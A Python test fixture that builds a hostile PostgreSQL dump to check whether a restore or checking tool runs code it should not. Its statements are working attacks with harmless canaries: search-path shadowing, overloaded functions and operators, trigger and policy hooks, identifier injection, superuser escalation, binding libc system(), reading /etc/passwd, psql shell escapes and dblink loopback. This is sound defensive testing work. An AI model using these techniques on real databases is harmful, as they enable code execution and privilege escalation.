"""A plain dump that attacks whoever restores, measures or checks it: each attack has a canary, a program that touches a file of its name.

`fire` starts the program if it may, and is silent otherwise; so an attack shows only where it has the rights of a superuser. `SHOWN` run
by a superuser after a restore shows that the canaries sing at all.
"""

from pathlib import Path

_CODE = """\
CREATE FUNCTION public.fire(attack text) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $$
BEGIN
  EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'cat > /dev/null; touch CANARIES/' || attack);
  RETURN true;
EXCEPTION WHEN OTHERS THEN
  BEGIN
    EXECUTE 'RESET ROLE';
    EXECUTE 'RESET SESSION AUTHORIZATION';
    EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'cat > /dev/null; touch CANARIES/' || attack || '-after-reset');
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN true;
END $$;
CREATE FUNCTION public.pure(attack text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE PARALLEL UNSAFE AS $$
BEGIN RETURN public.fire(attack); END $$;
CREATE FUNCTION public.keep(value anyelement, attack text) RETURNS anyelement LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.fire(attack); RETURN value; END $$;
CREATE FUNCTION public.of_trigger() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN PERFORM public.fire(TG_ARGV[0]); IF TG_OP IN ('TRUNCATE', 'DELETE') THEN RETURN OLD; END IF; RETURN NEW; END $$;
"""
# By what they stand for: statements, which may fail.
ATTACKS = {
    "search-path-of-the-database": """\
CREATE SCHEMA shadow;
CREATE VIEW shadow.pg_class AS SELECT oid, c.* FROM (SELECT relname, relnamespace, relkind, relpersistence, reltuples, relam,
 reltoastrelid, relpages FROM pg_catalog.pg_class) c, LATERAL (SELECT 0::oid AS oid) o WHERE public.fire('search-path-of-the-database');
CREATE VIEW shadow.pg_database AS SELECT * FROM pg_catalog.pg_database WHERE public.fire('search-path-of-the-database');
CREATE VIEW shadow.pg_settings AS SELECT * FROM pg_catalog.pg_settings WHERE public.fire('search-path-of-the-database');
CREATE VIEW shadow.pg_stat_database AS SELECT * FROM pg_catalog.pg_stat_database WHERE public.fire('search-path-of-the-database');
CREATE VIEW shadow.pg_index AS SELECT * FROM pg_catalog.pg_index WHERE public.fire('search-path-of-the-database');
CREATE VIEW shadow.pg_extension AS SELECT * FROM pg_catalog.pg_extension WHERE public.fire('search-path-of-the-database');
CREATE VIEW shadow.pg_stat_activity AS SELECT * FROM pg_catalog.pg_stat_activity WHERE public.fire('search-path-of-the-database');
DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET search_path = shadow, pg_catalog, public', current_database()); END $$;
""",
    "search-path-of-the-superuser": """\
ALTER ROLE postgres SET search_path = shadow, pg_catalog, public;
ALTER ROLE ALL SET search_path = shadow, pg_catalog, public;
ALTER ROLE plinth_restore SET search_path = shadow, pg_catalog, public;
""",
    "libraries-and-roles-of-sessions": """\
ALTER ROLE plinth_restore SET session_preload_libraries = 'no_such_library';
ALTER ROLE ALL SET role = 'plinth_restore';
DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET session_preload_libraries = no_such_library', current_database()); END $$;
DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET default_transaction_read_only = on', current_database()); END $$;
""",
    "functions-that-match-better": """\
CREATE FUNCTION public.pg_table_size(oid) RETURNS bigint LANGUAGE sql AS $$ SELECT 1::bigint WHERE public.fire('functions-that-match-better') $$;
CREATE FUNCTION public.pg_relation_size(oid) RETURNS bigint LANGUAGE sql AS $$ SELECT 8192::bigint WHERE public.fire('functions-that-match-better') $$;
CREATE FUNCTION public.pg_relation_filepath(oid) RETURNS text LANGUAGE sql AS $$ SELECT 'x'::text WHERE public.fire('functions-that-match-better') $$;
CREATE FUNCTION public.quote_ident(name) RETURNS text LANGUAGE sql AS $$ SELECT $1::text WHERE public.fire('functions-that-match-better') $$;
CREATE FUNCTION public.pg_database_size(name, VARIADIC int[]) RETURNS bigint LANGUAGE sql AS $$ SELECT 1::bigint WHERE public.fire('functions-that-match-better') $$;
""",
    "operators-that-match-better": """\
CREATE FUNCTION public.compared(real, integer) RETURNS boolean LANGUAGE sql AS $$ SELECT public.fire('operators-that-match-better') $$;
CREATE FUNCTION public.compared(oid, regnamespace) RETURNS boolean LANGUAGE sql AS $$ SELECT public.fire('operators-that-match-better') $$;
CREATE FUNCTION public.compared(oid, regclass) RETURNS boolean LANGUAGE sql AS $$ SELECT public.fire('operators-that-match-better') $$;
CREATE FUNCTION public.compared(oid, integer) RETURNS boolean LANGUAGE sql AS $$ SELECT public.fire('operators-that-match-better') $$;
CREATE FUNCTION public.compared(name, text) RETURNS boolean LANGUAGE sql AS $$ SELECT public.fire('operators-that-match-better') $$;
CREATE FUNCTION public.compared(oid, bigint) RETURNS boolean LANGUAGE sql AS $$ SELECT public.fire('operators-that-match-better') $$;
CREATE OPERATOR public.> (LEFTARG = real, RIGHTARG = integer, FUNCTION = public.compared);
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = regnamespace, FUNCTION = public.compared);
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = regclass, FUNCTION = public.compared);
CREATE OPERATOR public.>= (LEFTARG = oid, RIGHTARG = integer, FUNCTION = public.compared);
CREATE OPERATOR public.<> (LEFTARG = name, RIGHTARG = text, FUNCTION = public.compared);
CREATE OPERATOR public.<> (LEFTARG = oid, RIGHTARG = integer, FUNCTION = public.compared);
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = bigint, FUNCTION = public.compared);
""",
    "casts-of-own-types": """\
CREATE TYPE public.mood AS ENUM ('good', 'bad');
CREATE FUNCTION public.of_mood(public.mood) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM public.fire('casts-of-own-types'); RETURN 'good'; END $$;
CREATE CAST (public.mood AS text) WITH FUNCTION public.of_mood(public.mood) AS IMPLICIT;
CREATE TABLE public.moods (mood public.mood PRIMARY KEY, id int);
INSERT INTO public.moods VALUES ('good', 1), ('bad', 2);
""",
    "keys-of-indexes": """\
CREATE TABLE public.keyed (id int PRIMARY KEY, name text);
INSERT INTO public.keyed SELECT n, 'name ' || n FROM generate_series(1, 100) n;
CREATE UNIQUE INDEX ON public.keyed (public.keep(name, 'keys-of-indexes')) WHERE public.pure('predicates-of-indexes');
CREATE INDEX ON public.keyed USING hash (public.keep(id, 'keys-of-hash-indexes')) WHERE public.pure('predicates-of-hash-indexes');
CREATE STATISTICS public.of_keyed ON (public.keep(name, 'extended-statistics')), id FROM public.keyed;
""",
    "checks-and-domains": """\
CREATE DOMAIN public.checked AS int CHECK (public.pure('domains'));
CREATE TABLE public.checking (id public.checked PRIMARY KEY, made boolean GENERATED ALWAYS AS (public.pure('generated-columns')) STORED,
 other boolean DEFAULT public.fire('defaults'), CHECK (public.pure('check-constraints')));
INSERT INTO public.checking (id) SELECT n FROM generate_series(1, 10) n;
""",
    "triggers-and-rules": """\
CREATE TABLE public.goods (id serial, name text);
INSERT INTO public.goods (name) VALUES ('a good');
CREATE TRIGGER a BEFORE INSERT ON public.goods FOR EACH ROW EXECUTE FUNCTION public.of_trigger('triggers');
ALTER TABLE public.goods ENABLE ALWAYS TRIGGER a;
CREATE TRIGGER b AFTER TRUNCATE ON public.goods FOR EACH STATEMENT EXECUTE FUNCTION public.of_trigger('triggers-of-truncate');
CREATE RULE r AS ON INSERT TO public.goods DO ALSO SELECT public.fire('rules');
CREATE TABLE public.secret (id int);
ALTER TABLE public.secret ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.secret FORCE ROW LEVEL SECURITY;
CREATE POLICY p ON public.secret USING (public.fire('policies'));
INSERT INTO public.secret SELECT 1;
CREATE VIEW public.seen WITH (security_barrier) AS SELECT * FROM public.goods WHERE public.fire('views');
CREATE MATERIALIZED VIEW public.kept AS SELECT public.fire('materialized-views');
""",
    "tables-of-plinth": """\
CREATE TABLE public.plinth_ledger_commits (client int, number bigint, payload text GENERATED ALWAYS AS
 (repeat(md5(client::text || '.' || number::text), 3)) STORED, PRIMARY KEY (client, number));
CREATE TABLE public.plinth_ledger_clients (client int PRIMARY KEY, last_number bigint NOT NULL,
 commit_levels int NOT NULL DEFAULT 0, CHECK (public.pure('tables-of-plinth')));
CREATE TRIGGER a BEFORE INSERT OR UPDATE ON public.plinth_ledger_clients FOR EACH ROW EXECUTE FUNCTION public.of_trigger('tables-of-plinth');
CREATE TRIGGER b BEFORE TRUNCATE ON public.plinth_ledger_commits EXECUTE FUNCTION public.of_trigger('tables-of-plinth');
CREATE TABLE public.plinth_extension (payload text);
CREATE TRIGGER a BEFORE INSERT ON public.plinth_extension FOR EACH ROW EXECUTE FUNCTION public.of_trigger('tables-of-plinth');
""",
    "functions-of-extensions": """\
CREATE SCHEMA plinth_pg_prewarm;
CREATE SCHEMA plinth_pageinspect;
CREATE FUNCTION public.pg_prewarm(regclass) RETURNS bigint LANGUAGE sql AS $$ SELECT 1::bigint WHERE public.fire('functions-of-extensions') $$;
CREATE FUNCTION public.pg_prewarm(oid) RETURNS bigint LANGUAGE sql AS $$ SELECT 1::bigint WHERE public.fire('functions-of-extensions') $$;
CREATE FUNCTION plinth_pg_prewarm.pg_prewarm(regclass) RETURNS bigint LANGUAGE sql AS $$ SELECT 1::bigint WHERE public.fire('functions-of-extensions') $$;
CREATE FUNCTION public.bt_metap(text) RETURNS TABLE (level bigint) LANGUAGE sql AS $$ SELECT 1::bigint WHERE public.fire('functions-of-extensions') $$;
CREATE FUNCTION plinth_pageinspect.bt_metap(text) RETURNS TABLE (level bigint) LANGUAGE sql AS $$ SELECT 1::bigint WHERE public.fire('functions-of-extensions') $$;
""",
    "event-triggers": """\
CREATE FUNCTION public.of_event() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.fire('event-triggers'); END $$;
CREATE EVENT TRIGGER of_ddl ON ddl_command_start EXECUTE FUNCTION public.of_event();
""",
    "names": """\
CREATE TABLE public."a""; SELECT public.fire('names'); --" (id int PRIMARY KEY);
INSERT INTO public."a""; SELECT public.fire('names'); --" VALUES (1);
CREATE TABLE public.E'x' (id int);
CREATE SCHEMA "s""; SELECT public.fire('names'); --";
CREATE TABLE "s""; SELECT public.fire('names'); --"."\x1b[31m\x0a' (%s) {}" (id int PRIMARY KEY, "k' ""; SELECT public.fire('names'); --" int UNIQUE);
""",
    "default-privileges": """\
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC;
ALTER DEFAULT PRIVILEGES FOR ROLE postgres GRANT ALL ON FUNCTIONS TO plinth_restore;
""",
    "rights": """\
SET SESSION AUTHORIZATION 'postgres';
SET ROLE postgres;
ALTER ROLE plinth_restore SUPERUSER;
GRANT pg_execute_server_program TO plinth_restore;
ALTER DATABASE postgres OWNER TO plinth_restore;
ALTER SYSTEM SET archive_command = 'touch CANARIES/rights';
SELECT public.fire('rights');
CREATE OR REPLACE FUNCTION pg_catalog.pg_table_size(regclass) RETURNS bigint LANGUAGE sql AS $$ SELECT 1::bigint WHERE public.fire('rights') $$;
CREATE FUNCTION public.system(cstring) RETURNS int LANGUAGE c AS '/lib/x86_64-linux-gnu/libc.so.6', 'system';
COPY public.goods TO PROGRAM 'cat > /dev/null; touch CANARIES/copy-to-a-program';
COPY public.goods TO 'CANARIES/copy-to-a-file';
SELECT lo_export(lo_from_bytea(4711, 'x'), 'CANARIES/lo-export');
SELECT lo_import('/etc/passwd');
SELECT pg_read_file('/etc/passwd');
LOAD 'CANARIES/library';
""",
    "commands-of-psql": """\
\\! touch CANARIES/commands-of-psql
\\copy public.goods to program 'touch CANARIES/commands-of-psql'
\\o | touch CANARIES/commands-of-psql
SELECT 'touch CANARIES/commands-of-psql' AS x \\gset
\\setenv PAGER 'touch CANARIES/commands-of-psql'
SELECT 1 \\g |touch CANARIES/commands-of-psql
SELECT `touch CANARIES/commands-of-psql`;
\\unrestrict plinth
\\! touch CANARIES/commands-of-psql
""",
    "back-by-dblink": """\
CREATE EXTENSION IF NOT EXISTS dblink;
DO $$ BEGIN
  PERFORM dblink_exec('host=' || current_setting('unix_socket_directories') || ' user=postgres dbname=postgres password=x',
    'COPY (SELECT 1) TO PROGRAM ''cat > /dev/null; touch CANARIES/back-by-dblink''');
EXCEPTION WHEN OTHERS THEN NULL;
END $$;
""",
}
SCRIPT = """\
BEGIN;
INSERT INTO goods (name) VALUES ('new');
SELECT count(*) FROM seen;
SELECT count(*) FROM secret;
INSERT INTO checking (id) VALUES (1) ON CONFLICT DO NOTHING;
SELECT mood::text FROM moods;
END;
"""
SHOWN = "SELECT public.fire('shown')"


LOUD = ("rights", "commands-of-psql", "names")
"""What ends the restore with errors. Of all others each statement is tried, and its error is caught."""
_TRY = "DO $try$ BEGIN EXECUTE $statement$ {} $statement$; EXCEPTION WHEN OTHERS THEN NULL; END $try$;\n"


def quiet_text(canaries: Path) -> str:
    """Return a dump that is restored without an error, whose canaries touch files in a folder."""
    attacks = [text for name, text in ATTACKS.items() if name not in LOUD]
    statements = [one for text in attacks for one in text.split(";\n") if one.strip()]
    tried = (one + ";\n" if one.startswith("CREATE EXTENSION") else _TRY.format(one) for one in statements)
    return (_CODE + "".join(tried)).replace("CANARIES", str(canaries))


def loud_text(canaries: Path) -> str:
    """Return a dump that is not restored whole."""
    return (_CODE + "".join(ATTACKS[name] for name in LOUD)).replace("CANARIES", str(canaries))


def fired(canaries: Path) -> set[str]:
    """Return the attacks that had the rights of a superuser."""
    return {path.name for path in canaries.iterdir()}
